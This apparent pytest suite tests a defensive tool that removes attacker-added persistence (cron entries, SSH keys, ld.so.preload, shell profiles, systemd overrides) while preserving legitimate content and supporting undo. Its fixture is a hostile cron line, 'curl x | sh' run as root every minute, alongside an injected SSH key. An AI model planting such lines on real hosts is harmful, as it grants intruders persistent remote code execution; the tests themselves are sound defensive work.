# SPDX-License-Identifier: Apache-2.0
"""Cleaning: what the actor left goes, and what others have stays."""

import os
import stat

import pytest

EVIL = "* * * * * root curl x | sh"
KEPT = b"17 * * * * root run-parts /etc/cron.hourly\n"


@pytest.mark.parametrize(
    ("name", "place"),
    [
        ("etc/crontab", "cron"),
        ("var/spool/cron/crontabs/root", "cron"),
        ("root/.ssh/authorized_keys", "ssh_keys"),
        ("root/.ssh/authorized_keys2", "ssh_keys"),
        ("etc/ld.so.preload", "preload"),
        ("root/.bashrc", "shell_profile"),
        ("etc/rc.local", "rc_local"),
        ("etc/environment", "environment"),
        ("etc/systemd/system/x.service.d/override.conf", "systemd"),
    ],
)
def test_added_line_goes_and_undo_brings_it_back(scene, name, place):
    """
    In the same file: same inode, same owner, same mode; and after undo, the same times.
    """
    path = scene.file(name, KEPT + EVIL.encode() + b"\n# end", place)
    os.chmod(path, 0o640)
    os.chown(path, 61234, 61235)
    os.utime(path, ns=(1, 2))
    os.utime(path.parent, ns=(3, 4))
    before, inode = scene.tree(), path.stat().st_ino
    scene.did(path, EVIL, place=place)

    [receipt] = scene.apply()

    assert (receipt.outcome, receipt.target) == ("done", f"`{EVIL}` of {path}")
    assert path.read_bytes() == KEPT + b"# end"
    status = path.stat()
    assert (status.st_ino, stat.S_IMODE(status.st_mode), status.st_uid, status.st_gid) == (
        inode, 0o640, 61234, 61235,
    )  # fmt: skip
    [undone] = scene.undo([receipt])
    assert (undone.action, undone.outcome, undone.reason) == ("clean", "undone", "")
    assert scene.tree() == before
    assert path.stat().st_ino == inode


def test_cron_is_made_to_look(scene):
    """
    It reads a table again only if the times of the table and of its directory are others.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    os.utime(path, ns=(1, 2))
    os.utime(path.parent, ns=(3, 4))

    scene.apply()

    assert path.stat().st_mtime_ns != 2
    assert path.parent.stat().st_mtime_ns != 4


def test_plan_says_what_would_go_and_touches_nothing(scene):
    """
    Each line, each file, and what would be refused.
    """
    table = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(table, EVIL)
    keys = scene.file("k", b"a\nb\nc\n", "ssh_keys")
    scene.did(keys, "a", "b", place="ssh_keys")
    made = scene.made("etc/cron.d/x", EVIL)
    other = scene.file("etc/passwd", b"x::0:0:::\n", "accounts")
    scene.did(other, "x::0:0:::")
    before = scene.tree()

    words = scene.plan()

    assert words[:3] == (f"`{EVIL}` of {table}", f"2 lines of {keys}", str(made))
    assert words[3].startswith(f"not {other}: what becomes of this place (accounts)")
    assert scene.tree() == before


def test_keys_that_were_there_before_stay(scene):
    """
    An administrator is never locked out, for only what was added goes.
    """
    path = scene.file("k", b"ssh-ed25519 AAAA admin\nssh-ed25519 BBBB evil\n", "ssh_keys")
    scene.did(path, "ssh-ed25519 BBBB evil")

    scene.apply()

    assert path.read_bytes() == b"ssh-ed25519 AAAA admin\n"


def test_file_that_holds_nothing_else_goes_whole(scene):
    """
    Made by the actor, and nobody's line is in it.
    """
    path = scene.made("etc/cron.d/x", "# x", EVIL)
    before = scene.tree()

    receipts = scene.apply()

    assert scene.outcomes(receipts) == [("done", str(path))]
    assert not path.exists()
    assert [one.outcome for one in scene.undo(receipts)] == ["undone"]
    assert scene.tree() == before


def test_file_in_which_somebody_else_has_a_line_keeps_it(scene):
    """
    Though the actor made the file.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    with path.open("ab") as file:
        file.write(KEPT)

    scene.apply()

    assert path.read_bytes() == KEPT


def test_program_that_the_actor_put_there_goes_whole(scene):
    """
    A program has no lines.
    """
    path = scene.file("etc/cron.hourly/x", b"\x7fELF\0\0\n")
    scene.did(path, operation="rename")

    assert scene.outcomes(scene.apply()) == [("done", str(path))]
    assert not path.exists()


def test_successor_of_the_actors_file_stays(scene):
    """
    It is another inode: somebody else has made it.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    kept = path.with_name("y")
    path.rename(kept)
    path.write_bytes(KEPT)

    assert scene.apply() == ()
    assert path.read_bytes() == KEPT


def test_packages_file_is_never_taken(scene):
    """
    Though the actor wrote it: a package manager may be its child.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    scene.packages.files.add(str(path))

    [receipt] = scene.apply()

    assert (receipt.outcome, receipt.reason) == ("refused", "it belongs to the package pack")
    assert path.exists()


def test_line_goes_from_a_packages_file(scene):
    """
    The rest is the package's.
    """
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.packages.files.add(str(path))
    scene.did(path, EVIL)

    scene.apply()

    assert path.read_bytes() == KEPT


def test_path_that_is_not_watched_is_refused(scene):
    """
    Whatever the decision says.
    """
    path = scene.made("etc/cron.d/x", EVIL)
    scene.places.clear()

    [receipt] = scene.apply()

    assert (receipt.outcome, receipt.reason) == ("refused", "it is in no watched place")
    assert path.exists()


def test_what_a_protected_process_did_stays(scene):
    """
    It lives, and is none that may be acted on.
    """
    admin = scene.host.add(20)
    scene.guarded[admin] = "it is the login shell of a session"
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\nmine\n")
    scene.did(path, EVIL)
    scene.did(path, "mine", process=admin)
    other = scene.file("etc/cron.d/a", b"mine\n")
    scene.did(other, "mine", process=admin)

    receipts = scene.apply()

    assert path.read_bytes() == KEPT + b"mine\n"
    assert other.read_bytes() == b"mine\n"
    assert [one.outcome for one in receipts] == ["done", "refused"]
    assert "login shell" in receipts[1].reason
    assert admin not in scene.host.pinned


def test_author_that_may_be_acted_on_does_not_become_a_member(scene):
    """
    That it wrote a line is no reason to kill it.
    """
    other = scene.host.add(20)
    path = scene.file("etc/crontab", KEPT + EVIL.encode() + b"\n")
    scene.did(path, EVIL, process=other)
    members = scene.members()

    scene.action.apply(scene.decision, members, scene.intend)

    assert path.read_bytes() == KEPT
    assert members.keys == (scene.target,)


def test_link_in_the_files_place_is_not_followed(scene):
    """
    Nor one on the way to it.
    """
    precious = scene.root / "precious"
    precious.write_bytes(EVIL.encode() + b"\n")
    path = scene.file("etc/crontab", EVIL.encode() + b"\n")
    scene.did(path, EVIL)
    path.unlink()
    path.symlink_to(precious)
    below = scene.file("etc/cron.d/x", EVIL.encode() + b"\n")
    scene.did(below, EVIL)
    below.parent.rename(scene.root / "moved")
    (scene.root / "etc/cron.d").symlink_to(scene.root / "moved")

    scene.apply()

    assert precious.read_bytes() == EVIL.encode() + b"\n"
    assert (scene.root / "moved/x").read_bytes() == EVIL.encode() + b"\n"
